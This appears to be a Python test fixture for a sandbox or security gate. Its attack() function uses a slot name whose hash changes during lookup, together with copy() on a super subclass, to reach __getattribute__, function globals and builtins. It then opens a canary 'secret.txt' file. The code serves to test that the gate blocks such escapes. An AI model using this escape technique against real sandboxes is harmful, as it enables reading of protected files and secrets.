"""Has `copy` read any attribute of anything, by a slot whose name changes while it is asked for, and walks to the files."""

# mypy: ignore-errors
# alone: gate tripwire kernel
# free: harmless

from contextlib import contextmanager
from copy import copy

_manager = contextmanager(lambda: 0)
_NAMES, _CALLS = ["a"], []


class _Name(str):
    def target(self):
        return "__getattribute__" if len(_CALLS) <= 2 else "a"

    def __hash__(self):
        _CALLS.append(1)
        return hash(self.target())

    def __eq__(self, other):
        return self.target() == other


class _Slot(super):
    __slots__ = _NAMES


def _own():
    pass


def attack():
    made = _Slot(type(_own), _manager)
    _NAMES[0] = _Name("zzz")
    read = copy(made).a
    builtins = read("__globals__")["sys"].modules["builtins"]
    with builtins.open("@CANARY@/secret.txt") as file:
        return "CANARY" in file.read()
